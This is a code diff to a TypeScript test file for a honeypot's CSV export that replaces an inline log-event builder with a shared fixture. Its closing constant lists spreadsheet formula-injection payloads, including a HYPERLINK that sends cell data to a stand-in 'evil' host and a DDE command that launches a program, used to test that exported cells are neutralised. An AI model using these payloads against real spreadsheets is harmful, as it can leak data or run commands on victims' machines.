@@ -7,6 +7,7 @@ import type { AddressInfo } from 'node:net'
 import os from 'node:os'
 import path from 'node:path'
 import type { LogEventInput } from '@decnet/db'
+import { logEventFixture } from '@decnet/db/testing'
 import { parse } from 'csv-parse/sync'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { csvCell, MAX_CSV_CELL } from '../src/exports/csv.ts'
@@ -15,17 +16,8 @@ import { codeOf, login, NEW_ADMIN_PASSWORD } from './support/accounts.ts'
 import { decnet } from './support/cli.ts'
 import { inProcessApiOfSuite, NO_WORKERS } from './support/in-process.ts'
 
-const event = (overrides: Partial<LogEventInput>): LogEventInput => ({
-  timestamp: new Date('2026-11-25T10:00:00Z'),
-  decky: 'web-01',
-  service: 'ssh',
-  eventType: 'login_attempt',
-  attackerIp: '203.0.113.7',
-  attackerPort: 50000,
-  rawLine: 'login attempt',
-  fields: {},
-  ...overrides,
-})
+/** A stored login attempt on web-01 (the decky every test here reads back). */
+const event = (overrides: Partial<LogEventInput>) => logEventFixture({ decky: 'web-01', ...overrides })
 
 // What a spreadsheet would run, in every field an attacker controls.
 const FORMULAS = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)']
